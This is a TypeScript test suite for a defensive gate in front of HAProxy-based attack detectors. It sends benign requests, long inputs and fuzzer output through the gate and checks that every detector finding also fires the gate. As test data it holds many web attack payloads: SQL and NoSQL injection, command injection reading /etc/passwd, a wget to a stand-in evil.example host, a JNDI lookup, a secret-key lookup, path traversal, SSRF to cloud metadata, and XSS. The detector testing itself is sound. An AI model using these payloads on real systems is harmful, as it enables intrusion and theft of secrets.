import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import fc from 'fast-check';
import { GATE_STRUCTURED_HEADERS } from '../src/index.js';
import { detectEngineSource } from '../src/detect-lua.js';
import { BLAZEHTTP, detectorVerdicts, engineTables, loadBlazehttp, startGateProxy, sendAll, withId, type GateProxy } from './gate-harness.js';
import { build, corpusValues, engineVocabulary, formEnc, latin1, pct, pctAll, place, PLACEMENTS, type Placement } from './gate-requests.js';

// The gate (src/gate.ts) in front of the attack detectors, checked through a real HAProxy. Its
// property: whenever D.inspect finds something in a request, the gate fires (a request the gate
// lets through never reaches the detectors). The test HAProxy runs the gate's ACLs and, for every
// request, records what HAProxy hands rampart_detect.lua's action (test/lua/gate_dump.lua, the very
// same sample fetches) and answers "gate" or "clean"; one lua5.3 run of D.inspect over the records
// (test/lua/gate_verdicts.lua) says what the detectors find. Inputs: every value of our corpora in
// every part of a request, the engine's code markers, long inputs that would make a careless
// regex give up (PCRE2's match limit: a regex that fails does not match), a fuzzer (fast-check)
// that mixes the engine's own vocabulary, separators and encodings, and the BlazeHTTP corpus
// beside the repository when it is there (skipped otherwise). The detectors change: when one comes
// to recognise something the gate lets through, these checks fail, naming the request.

interface Case {
  name: string;
  bytes: Buffer;
}

interface Outcome extends Case {
  answer: string;
  finding: string;
}

/** Sends the cases through the gate and runs the detectors over what HAProxy recorded. */
async function run(proxy: GateProxy, cases: readonly Case[]): Promise<Outcome[]> {
  proxy.resetDump();
  const answers = await sendAll(
    proxy.port,
    cases.map((c, i) => withId(c.bytes, String(i))),
  );
  const verdicts = await detectorVerdicts(proxy.dumpFile);
  return cases.map((c, i) => {
    const v = verdicts.get(String(i));
    // no record: HAProxy refused the request itself (400...), so no detector would have seen it
    if (v) assert.equal(v.gate, answers[i], `${c.name}: the recorded verdict differs from the answer`);
    return { ...c, answer: answers[i]!, finding: v?.finding ?? 'not-recorded' };
  });
}

const show = (o: Outcome) => `${o.name}: ${o.finding}\n    ${JSON.stringify(latin1(o.bytes).slice(0, 600))}`;

/** The property: every finding of the detectors went through the gate. */
function assertNothingHidden(outcomes: readonly Outcome[], what: string): void {
  const hidden = outcomes.filter((o) => o.answer === 'clean' && o.finding !== '-' && !o.finding.startsWith('error:'));
  assert.equal(hidden.length, 0, `${what}: ${hidden.length} requests with a finding passed the gate clean:\n${hidden.slice(0, 25).map(show).join('\n')}`);
  const lost = outcomes.filter((o) => o.answer !== 'gate' && o.answer !== 'clean' && !/^HTTP\/1\.1 400 /.test(o.answer));
  assert.equal(
    lost.length,
    0,
    `${what}: requests without an answer from the gate:\n${lost
      .slice(0, 10)
      .map((o) => `${o.answer} ${show(o)}`)
      .join('\n')}`,
  );
}

const share = (outcomes: readonly Outcome[]) => outcomes.filter((o) => o.answer === 'clean').length / Math.max(1, outcomes.length);
const percent = (x: number) => `${(100 * x).toFixed(1)}%`;

const BROWSER = [
  'Host: shop.example.com',
  'User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  'Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8',
  'Accept-Language: en-US,en;q=0.9,de;q=0.8',
  'Accept-Encoding: gzip, deflate, br',
  'Sec-Ch-Ua: "Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"',
  'Sec-Ch-Ua-Mobile: ?0',
  'Sec-Ch-Ua-Platform: "Windows"',
  'Sec-Fetch-Site: same-origin',
  'Sec-Fetch-Mode: navigate',
  'Cookie: _ga=GA1.2.12345.67890; session=abc123def; theme=dark',
];
const raw = (head: string, extra: string[] = [], body?: string) =>
  Buffer.from(
    `${head} HTTP/1.1\r\n${[...BROWSER, ...extra, ...(body === undefined ? [] : [`Content-Length: ${Buffer.byteLength(body, 'latin1')}`]), 'Connection: close'].join('\r\n')}\r\n\r\n${body ?? ''}`,
    'latin1',
  );

/** Requests any site sees all day: each must skip the detectors (the gate is not "always fire"). */
const ORDINARY: Case[] = [
  { name: 'a static file', bytes: raw('GET /static/app.js?v=123') },
  { name: 'a search', bytes: raw('GET /search?q=hello+world&page=2', ['Referer: https://shop.example.com/']) },
  { name: 'a page with a tracking query', bytes: raw('GET /products/blue-shirt?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2024') },
  { name: 'an API call', bytes: raw('GET /api/v1/orders/1234/items?limit=20&offset=40&sort=-created_at', ['Accept: application/json', 'X-Requested-With: XMLHttpRequest']) },
  { name: 'a redirect target', bytes: raw('GET /login?next=%2Faccount%2Forders&lang=en-US') },
  { name: 'a URL parameter', bytes: raw('GET /share?url=https%3A%2F%2Fwww.example.org%2Fnews%2F2024%2F05%2Fstory.html&title=Spring+news') },
  { name: 'a unicode search', bytes: raw(`GET /search?q=${pctAll('Müller Straße 5, Köln')}&q2=${pctAll('東京 ラーメン')}`) },
  { name: 'an image with a CDN path', bytes: raw('GET /img/products/2024/05/shirt_blue-800x600.webp', ['Accept: image/avif,image/webp,*/*', 'Referer: https://shop.example.com/products/blue-shirt']) },
  {
    name: 'a login form',
    bytes: raw('POST /login', ['Content-Type: application/x-www-form-urlencoded', 'Origin: https://shop.example.com'], 'email=jane.doe%40example.com&password=correct-horse-battery&remember=on'),
  },
  {
    name: 'a JSON API write',
    bytes: raw('POST /api/v1/cart', ['Content-Type: application/json'], '{"productId":4711,"quantity":2,"options":{"size":"M","color":"blue"},"note":"Gift, please wrap!"}'),
  },
  {
    name: 'a JSON analytics beacon',
    bytes: raw('POST /collect', ['Content-Type: application/json'], '[{"event":"page_view","ts":1716200000000,"path":"/products/blue-shirt","ref":"https://www.google.com/"}]'),
  },
  {
    name: 'a beacon carrying JSON inside a JSON string (its quotes escaped)',
    bytes: raw('POST /collect', ['Content-Type: application/json'], String.raw`{"t":"timing","data":"{\"page\":\"/checkout\",\"ms\":120,\"ok\":true}"}`),
  },
  {
    name: "a JSON document of 1,120 strings (2,240 quotes: within the detectors' budget, so its size alone does not fire)",
    bytes: raw(
      'POST /api/v1/catalog',
      ['Content-Type: application/json'],
      `{"items":[${Array.from({ length: 80 }, (_, i) => JSON.stringify({ id: i, sku: `SKU-${100000 + i}`, name: `Garden chair ${i}`, tags: ['outdoor', 'wood'], stock: { warehouse: 'north', count: i % 13 }, description: 'Solid acacia wood, folds flat.' })).join(',')}]}`,
    ),
  },
  { name: 'a HEAD request', bytes: raw('HEAD /robots.txt') },
];

/** Long inputs: each pattern family must stay linear, and still see the attack at the end. */
function longCases(): Case[] {
  const big = (n: number, s: string) => s.repeat(Math.ceil(n / s.length)).slice(0, n);
  const form = (body: string) =>
    build({
      method: 'POST',
      target: '/f',
      headers: [
        ['Host', 'gate.test'],
        ['Content-Type', 'application/x-www-form-urlencoded'],
      ],
      body,
    });
  const text = (body: string) =>
    build({
      method: 'POST',
      target: '/t',
      headers: [
        ['Host', 'gate.test'],
        ['Content-Type', 'text/plain'],
      ],
      body,
    });
  const json = (body: string) =>
    build({
      method: 'POST',
      target: '/j',
      headers: [
        ['Host', 'gate.test'],
        ['Content-Type', 'application/json'],
      ],
      body,
    });
  const query = (q: string) => build({ method: 'GET', target: `/s?${q}`, headers: [['Host', 'gate.test']] });
  const header = (v: string) =>
    build({
      method: 'GET',
      target: '/',
      headers: [
        ['Host', 'gate.test'],
        ['X-Data', v],
      ],
    });
  return [
    { name: 'long: numbers, then 1 or true', bytes: form(`a=${big(12000, '1,')}&b=1 or true`) },
    { name: 'long: http: repeated, then an internal URL', bytes: form(`a=${big(12000, 'http:a.b.')}&u=http://127.0.0.1/`) },
    { name: 'long: insert repeated, then into', bytes: text(`${big(12000, 'insert ')}x into y`) },
    { name: 'long: =1 repeated, then a joined or', bytes: query(`${big(6000, 'id=1&')}id=or true`) },
    { name: 'long: a host name, then @internal', bytes: form(`u=http://${big(12000, 'a')}.com@169.254.169.254/`) },
    { name: 'long: quotes, then a breakout', bytes: form(`a=${big(12000, "x'y")}&b=x' or 1=1-- `) },
    { name: 'long: separators, then a command', bytes: header(`${big(7000, 'a;b')}; cat /etc/passwd`) },
    { name: 'long: a JSON array of numbers, then a command', bytes: json(`[${big(12000, '1,')}"x; wget http://evil.example/x"]`) },
    { name: 'long: a JSON string, then a quote breakout', bytes: json(`{"a":"${big(12000, 'word ')}","b":"%27 or %271%27=%271"}`) },
    { name: 'long: blanks before the JSON, then a comment', bytes: json(`${big(300, ' ')}{"q":"1 union/**/select 1"}`) },
    { name: 'long: a path of segments, then traversal', bytes: build({ method: 'GET', target: `/${big(6000, 'a/')}..%2f..%2fetc/passwd`, headers: [['Host', 'gate.test']] }) },
    { name: 'long: long fields, the last one repeating the first name', bytes: form(`${Array.from({ length: 148 }, (_, i) => `k${i}=${big(100, 'v')}`).join('&')}&k0=1 or true`) },
    { name: 'long: long fields, the last two with one name', bytes: form(`${Array.from({ length: 147 }, (_, i) => `k${i}=${big(100, 'v')}`).join('&')}&z=1&z=or true`) },
    { name: 'long: a long query, the last two parameters with one name', bytes: query(`${Array.from({ length: 147 }, (_, i) => `k${i}=${big(50, 'v')}`).join('&')}&z=1&z=or true`) },
    {
      name: 'long: many cookies, the last two with one name',
      bytes: build({
        method: 'GET',
        target: '/',
        headers: [
          ['Host', 'gate.test'],
          ['Cookie', `${Array.from({ length: 140 }, (_, i) => `c${i}=${big(80, 'v')}`).join('; ')}; z=1; z=or true`],
        ],
      }),
    },
    {
      name: 'long: many cookies, the last one repeating the first name',
      bytes: build({
        method: 'GET',
        target: '/',
        headers: [
          ['Host', 'gate.test'],
          ['Cookie', `${Array.from({ length: 140 }, (_, i) => `c${i}=${big(60, 'v')}`).join('; ')}; c0=1 or true`],
        ],
      }),
    },
    { name: 'long: a query of semicolons, then a repeated name', bytes: query(`a=${big(7000, ';')}&b=1&a=or true`) },
    { name: 'long: question marks, then a repeated name', bytes: query(`a=${big(7000, '?a=')}&id=1&id=or true`) },
    { name: 'long: a number and pluses, then or', bytes: form(`a=1${big(12000, '+')}or 1=1`) },
    { name: 'long: a separator and quotes, then a command', bytes: text(`x;${big(12000, "'")}id`) },
    { name: 'long: a separator and a long path, then a command', bytes: text(`x;${big(12000, 'a/')}whoami`) },
    { name: 'long: a quote and a long identifier, then a call', bytes: text(`x'-${big(12000, 'a')}(1)`) },
    { name: 'long: blanks after a number, then or', bytes: text(`1${big(12000, ' ')}or 1=1`) },
    // past the budget's structure limits the detectors refuse the body (body_too_complex)
    { name: 'long: JSON nested one level past NESTING_LIMIT', bytes: json(`${'['.repeat(513)}1${']'.repeat(513)}`) },
    { name: 'long: JSON objects nested past NESTING_LIMIT', bytes: json(`${'{"a":'.repeat(600)}1${'}'.repeat(600)}`) },
    { name: 'long: one form field past FIELDS_LIMIT', bytes: form(`${'a&'.repeat(1000)}b`) },
    { name: 'long: text read as form, one field past FIELDS_LIMIT', bytes: text(`a=1${'&'.repeat(1000)}`) },
    // found by the fuzzer (seed 394940546): a globbed path with quotes inside, which the engine drops
    { name: 'fuzzer: a quoted glob after an encoded separator', bytes: header('%3b%252fsubstring"*rlikebase64%3aschtasks') },
    { name: 'fuzzer: a glob split by quotes', bytes: header(`x;/bin"/"ca* /etc/passwd`) },
    { name: 'fuzzer: a glob after a quote', bytes: header(`x|'/'???/c?t /etc/passwd`) },
    // binary bodies (a control character in the first 512 bytes): the detectors skip them unless the first Content-Type names a form
    { name: 'binary: a control character at byte 512, after an attack', bytes: text(`q=1 or 1=1 ${big(512 - 11, 'a')}\x01`) },
    { name: 'binary: a control character at byte 511, after an attack', bytes: text(`q=1 or 1=1 ${big(511 - 11, 'a')}\x01`) },
    { name: 'binary: 512 bytes of UTF-8 text, a control character, an attack', bytes: text(`${latin1(Buffer.from('é'.repeat(256)))}\x01 x' or 1=1-- `) },
    {
      name: 'binary: a form type first, a binary type second',
      bytes: build({
        method: 'POST',
        target: '/f',
        headers: [
          ['Host', 'gate.test'],
          ['Content-Type', 'application/x-www-form-urlencoded'],
          ['Content-Type', 'application/octet-stream'],
        ],
        body: "\x01=1&q=1' or 1=1-- ",
      }),
    },
    {
      name: 'binary: a binary type first, a form type second',
      bytes: build({
        method: 'POST',
        target: '/f',
        headers: [
          ['Host', 'gate.test'],
          ['Content-Type', 'application/octet-stream'],
          ['Content-Type', 'application/x-www-form-urlencoded'],
        ],
        body: "\x01=1&q=1' or 1=1-- ",
      }),
    },
    {
      name: 'binary: a form named in capitals in a parameter',
      bytes: build({
        method: 'POST',
        target: '/f',
        headers: [
          ['Host', 'gate.test'],
          ['Content-Type', 'text/plain; profile=FORM'],
        ],
        body: "\x02 q=1' or 1=1-- ",
      }),
    },
    { name: 'binary: no Content-Type', bytes: build({ method: 'POST', target: '/f', headers: [['Host', 'gate.test']], body: '\x0e <script>alert(1)</script>' }) },
    { name: 'binary: a byte-order mark, a control character, an attack', bytes: text(`\xff\xfe\x01<script>alert(1)</script>`) },
    { name: 'binary: a JSON body with a control character', bytes: json(`{"a":"\x1f","q":"1' or 1=1-- "}`) },
    {
      name: 'binary: a serialized Java object',
      bytes: build({
        method: 'POST',
        target: '/o',
        headers: [
          ['Host', 'gate.test'],
          ['Content-Type', 'application/x-java-serialized-object'],
        ],
        body: '\xac\xed\x00\x05sr\x00\x11java.util.HashMap',
      }),
    },
    { name: 'long: many parameters (the budget joins the rest)', bytes: query(Array.from({ length: 1400 }, (_, i) => (i === 1300 ? 'a=1' : i === 1301 ? 'b=or true' : `k${i}=v`)).join('&')) },
  ];
}

/**
 * Random requests built from the engine's vocabulary, separators and encodings (fast-check). Half
 * of them keep to the gate's alphabet (letters, digits, text and the punctuation it lets through,
 * raw or in the escapes it lets through): those are the requests the gate may let pass, so the ones
 * where a miss would hide.
 */
function fuzzCases(vocabulary: readonly string[], attacks: readonly string[], runs: number, seed: number): Case[] {
  // (with $, which a JSON body lets through: a request with one anywhere else fires by itself)
  const inAlphabet = (s: string) => /^[A-Za-z0-9 _.,/:@=+~();&?#!^|{}[\]*"'$\u0080-\uffff-]*$/.test(s);
  const glue = [
    ' ',
    '$',
    '  ',
    '+',
    ',',
    ';',
    '(',
    ')',
    '=',
    '|',
    '||',
    '&',
    '&&',
    '.',
    '/',
    ':',
    "'",
    '"',
    '#',
    '--',
    '-',
    '{',
    '}',
    '{{',
    '[',
    ']',
    '!',
    '?',
    '*',
    '/**/',
    '@',
    '@@',
    '^',
    '~',
    '..',
    '../',
    '://',
    '%20',
    '%2520',
    '%27',
    '%22',
    '%3b',
    '%26',
    '%2f',
    '%3d',
    '%2c',
    '%28',
    '%29',
    '%7c',
    '%23',
    '%3a',
    '%40',
    '\u00a0',
    'é',
    '中',
  ];
  const outside = ['\t', '\n', '%', '<', '>', '$', '`', '\\', '%0a', '&#39;', '&lt;', '\\u0027', '\u0000', '%00', '%c0%ae', '\uff0e'];
  const numbers = ['1', '0', '-1', '2.5', '0x1f', '1e0', '10', '123', '(1)', '1)', '.5'];
  const hosts = [
    '127.0.0.1',
    'localhost',
    'example.com',
    'a.internal',
    '169.254.169.254',
    '10.0.0.1',
    'evil.example',
    '0x7f000001',
    'user@127.0.0.1',
    'metadata.google.internal',
    'a.b.nip.io',
    'x.com:80',
  ];
  const words = vocabulary.filter(inAlphabet);
  const token = (strict: boolean) =>
    fc.oneof(
      { weight: 6, arbitrary: fc.constantFrom(...(strict ? words : vocabulary)) },
      { weight: 5, arbitrary: fc.constantFrom(...glue) },
      { weight: strict ? 0 : 1, arbitrary: fc.constantFrom(...outside) },
      { weight: 2, arbitrary: fc.constantFrom(...numbers) },
      { weight: 1, arbitrary: fc.constantFrom(...hosts) },
      { weight: 1, arbitrary: fc.constantFrom(...attacks).map((a) => a.slice(0, 60)) },
      { weight: 1, arbitrary: fc.string({ maxLength: 6 }) },
    );
  const value = (strict: boolean) => fc.array(token(strict), { minLength: 1, maxLength: 9 }).map((t) => t.join(''));
  const caseFlip = (s: string, mask: number) => [...s].map((c, i) => ((mask >> (i % 30)) & 1 ? c.toUpperCase() : c)).join('');
  type Enc = 'none' | 'pct' | 'pct2' | 'entities' | 'case';
  const encode = (v: string, how: Enc, mask: number): string => {
    switch (how) {
      case 'none':
        return v;
      case 'pct':
        return [...v].map((c, i) => ((mask >> (i % 30)) & 1 ? pctAll(c) : c)).join('');
      case 'pct2':
        return pctAll(v).replace(/%/g, '%25');
      case 'entities':
        return [...v].map((c, i) => ((mask >> (i % 30)) & 1 && /[^\w]/.test(c) ? `&#${c.charCodeAt(0)};` : c)).join('');
      case 'case':
        return caseFlip(v, mask);
    }
  };
  type Where = Placement | 'split-query' | 'split-cookie' | 'split-form' | 'binary';
  const request = fc
    .boolean()
    .chain((strict) =>
      fc.record({
        strict: fc.constant(strict),
        parts: fc.array(value(strict), { minLength: 1, maxLength: 3 }),
        how: strict ? fc.constantFrom<Enc>('none', 'none', 'case', 'pct') : fc.constantFrom<Enc>('none', 'none', 'pct', 'pct2', 'entities', 'case'),
        mask: fc.integer(),
        where: fc.constantFrom<Where>(...PLACEMENTS, 'split-query', 'split-cookie', 'split-form', 'binary'),
        // a body with a control character near the detectors' 512 bytes, under various types
        bin: fc.record({
          type: fc.constantFrom('application/octet-stream', 'application/x-www-form-urlencoded', 'text/plain; p=Form', 'application/json', 'image/png', ''),
          at: fc.constantFrom(0, 1, 100, 510, 511, 512, 513, 600),
          control: fc.constantFrom('\x01', '\x08', '\x0b', '\x0e', '\x1f', '\t'),
        }),
      }),
    )
    .map(({ strict, parts, how, mask, where, bin }): Case => {
      // in the strict half, only the escapes the gate lets through (of its own punctuation and text)
      const enc = (v: string) => (strict && how === 'pct' ? [...v].map((c, i) => ((mask >> (i % 30)) & 1 && /[^\w.-]/.test(c) ? pctAll(c) : c)).join('') : encode(v, how, mask));
      const vals = parts.map(enc);
      const h: [string, string][] = [['Host', 'gate.test']];
      const name = `fuzz ${strict ? 'alphabet' : 'any'} ${where} ${how} ${JSON.stringify(vals)}`;
      // repeated names: the detectors join their values (with "," and with a blank)
      if (where === 'split-query') return { name, bytes: build({ method: 'GET', target: `/s?${vals.map((v) => `q=${pct(v, /[!-~]/, /[#&%+\s]/)}`).join('&')}`, headers: h }) };
      if (where === 'split-form')
        return { name, bytes: build({ method: 'POST', target: '/f', headers: [...h, ['Content-Type', 'application/x-www-form-urlencoded']], body: vals.map((v) => `q=${formEnc(v)}`).join('&') }) };
      if (where === 'split-cookie') return { name, bytes: build({ method: 'GET', target: '/', headers: [...h, ['Cookie', vals.map((v) => `q=${pct(v, /[!-~]/, /[;%\s]/)}`).join('; ')]] }) };
      if (where === 'binary') {
        const text = latin1(Buffer.from(vals.join(' '), 'utf8')).padEnd(bin.at, ' ');
        const body = `${text.slice(0, bin.at)}${bin.control}${text.slice(bin.at)}`;
        const headers: [string, string][] = bin.type ? [...h, ['Content-Type', bin.type]] : h;
        return { name: `${name} ${JSON.stringify(bin)}`, bytes: build({ method: 'POST', target: '/b', headers, body }) };
      }
      return { name, bytes: place(vals.join(''), where) };
    });
  return fc.sample(request, { numRuns: runs, seed });
}

describe('the gate in front of the attack detectors, through a real HAProxy', () => {
  let proxy: GateProxy;
  before(async () => {
    proxy = await startGateProxy();
  });
  after(async () => {
    await proxy?.stop();
  });

  test("the gate's copy of the engine's structured headers is current (a header it skips must be one the engine skips)", async () => {
    const { structured } = await engineTables();
    const stale = GATE_STRUCTURED_HEADERS.filter((h) => !structured.has(h));
    assert.deepEqual(stale, [], `headers the gate treats as structured but rampart_detect.lua inspects: ${stale.join(', ')}`);
  });

  test('ordinary requests skip the detectors', async () => {
    const outcomes = await run(proxy, ORDINARY);
    for (const o of outcomes) {
      assert.equal(o.finding, '-', `${o.name}: the detectors find something in an ordinary request (${o.finding})`);
      assert.equal(o.answer, 'clean', `${o.name}: the gate fires on an ordinary request`);
    }
  });

  test('our corpora in every part of a request, the code markers, long inputs: whatever the detectors find, the gate fires', async () => {
    const { markers } = await engineTables();
    const values = [
      ...corpusValues().map((v) => ({ name: v.file, value: v.value })),
      ...markers.flatMap((m) => [
        { name: 'CODE_MARKERS', value: m },
        { name: 'CODE_MARKERS', value: `x ${m}(1)` },
      ]),
    ];
    const cases: Case[] = [...longCases()];
    for (const v of values) for (const p of PLACEMENTS) cases.push({ name: `${v.name} in ${p}: ${JSON.stringify(v.value).slice(0, 120)}`, bytes: place(v.value, p) });
    const outcomes = await run(proxy, cases);
    assertNothingHidden(outcomes, 'corpora');
    const attacks = outcomes.filter((o) => o.name.startsWith('attacks/') && o.finding !== '-');
    assert.ok(attacks.length > 1000, `the detectors should find most corpus attacks (found ${attacks.length})`);
    const ordinary = outcomes.filter((o) => o.name.startsWith('benign.jsonl') && (o.name.includes(' in query:') || o.name.includes(' in json:')));
    console.log(`# corpora: ${cases.length} requests; ordinary values in a query string or JSON body skipping the detectors: ${percent(share(ordinary))}`);
  });

  test('a $ in a JSON body: what it starts for the detectors fires the gate, and a price or a "$schema" key does not', async () => {
    const json = (body: string) => raw('POST /api/items', ['Content-Type: application/json'], body);
    const attacks = [
      '{"q":"$(id)"}',
      '{"q":"x;$IFS cat$IFS/etc/hosts"}',
      '{"q":"${jndi:ldap://evil.example/a}"}',
      '{"q":"${env:AWS_SECRET_ACCESS_KEY}"}',
      '{"q":"${7*7}"}',
      '{"q":"$7*7}"}',
      '{"user":{"$ne":null},"password":{"$ne":null}}',
      '{"name":{"$regex":"^adm"}}',
      '{"$where":"sleep(5000)"}',
      '{"a.$gt":""}',
      '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}',
      '{"c":"1;$\\"id\\""}',
      '{"c":"x|$\'id\'"}',
      // a long run of what the command rule skips, escaped quotes included: the runs rule fires first
      `{"c":"x;${'\\"'.repeat(3000)}ls -la"}`,
    ];
    const ordinary = [
      '{"price":"$19.99","note":"save $5 today"}',
      '{"$schema":"https://json-schema.org/draft/2020-12/schema","title":"Order"}',
      '{"hash":"$2b$10$N9qo8uLOickgx2ZMRZoMyeIjZAgcfl7p92ldGxad68LJZdL17lhWy"}',
    ];
    const outcomes = await run(
      proxy,
      [...attacks, ...ordinary].map((b) => ({ name: b, bytes: json(b) })),
    );
    assertNothingHidden(outcomes, 'a $ in a JSON body');
    for (const o of outcomes.slice(0, attacks.length)) assert.equal(o.answer, 'gate', `${o.name}: the gate lets it through (detectors: ${o.finding})`);
    for (const o of outcomes.slice(attacks.length)) assert.deepEqual([o.answer, o.finding], ['clean', '-'], `${o.name}: an ordinary $ in a JSON body`);
  });

  test('what the fuzzer found once stays found', async () => {
    // seed 101: the SQL tokenizer reads 0X1F and sys.getent as two tokens (a hex number, then a system table)
    // and the same number after a percent escape, which decodes to a blank before it
    // seed 475259105: an EL expression whose { is percent-encoded inside a JSON string ($%7B...), and
    // the same for a command substitution ($%28id%29) and $IFS
    const json = (v: string) => raw('POST /api', ['Content-Type: application/json'], `{"id":1,"q":"${v}"}`);
    const found = [
      raw('GET /', ['Cookie: q=.5bAGGage1E0/PRogReSS||animAtionsTARt*0X1Fsys.GEtenT']),
      raw('GET /s?q=1%200x1Fsys.getent'),
      json('$%7BpageContext.request.getSession().setAttribute(%22admin%22%2Ctruencharassert'),
      json('$%28id%29'),
      json('$%2528id%2529'),
      json('x;$%69fs%3Bcat /etc/passwd'),
    ];
    const outcomes = await run(
      proxy,
      found.map((bytes, i) => ({ name: `found ${i}`, bytes })),
    );
    assertNothingHidden(outcomes, 'found by the fuzzer');
    for (const o of outcomes) assert.equal(o.answer, 'gate', `${o.name}: the gate lets it through (detectors: ${o.finding})`);
  });

  test("a fuzzer mixing the engine's vocabulary, separators and encodings: whatever the detectors find, the gate fires", async () => {
    const seed = Number(process.env.RAMPART_GATE_SEED ?? Date.now() % 2 ** 31);
    const runs = Number(process.env.RAMPART_GATE_RUNS ?? 6000);
    const vocabulary = engineVocabulary(detectEngineSource());
    const attacks = corpusValues()
      .filter((v) => v.file.startsWith('attacks/'))
      .map((v) => v.value);
    const outcomes = await run(proxy, fuzzCases(vocabulary, attacks, runs, seed));
    const found = outcomes.filter((o) => o.finding !== '-').length;
    console.log(`# fuzzer (seed ${seed}, RAMPART_GATE_SEED to repeat): ${outcomes.length} requests, ${found} with a finding, ${percent(share(outcomes))} passed the gate clean`);
    assertNothingHidden(outcomes, `fuzzer, seed ${seed}`);
    assert.ok(found > runs / 10, `the fuzzer should produce findings (${found})`);
  });

  const blaze = loadBlazehttp();
  test(
    'the BlazeHTTP corpus: no finding hidden, and most ordinary requests skip the detectors',
    { skip: blaze ? false : BLAZEHTTP ? `no corpus at ${BLAZEHTTP}` : 'RAMPART_BLAZEHTTP names no corpus file' },
    async () => {
      const outcomes = await run(
        proxy,
        blaze!.map((c) => ({ name: `${c.kind} ${c.id}`, bytes: c.bytes })),
      );
      assertNothingHidden(outcomes, 'BlazeHTTP');
      const benign = outcomes.filter((o) => o.name.startsWith('benign ') && o.finding !== 'not-recorded');
      const attacks = outcomes.filter((o) => o.name.startsWith('attack ') && o.finding !== 'not-recorded');
      const caught = attacks.filter((o) => o.finding !== '-').length;
      console.log(
        `# BlazeHTTP: ${outcomes.length} requests (${outcomes.length - benign.length - attacks.length} refused by HAProxy itself); ` +
          `ordinary ones skipping the detectors: ${percent(share(benign))} of ${benign.length}; ` +
          `attacks the detectors find: ${caught} of ${attacks.length}, all through the gate`,
      );
      assert.ok(share(benign) > 0.8, `only ${percent(share(benign))} of the ordinary requests skip the detectors`);
    },
  );
});
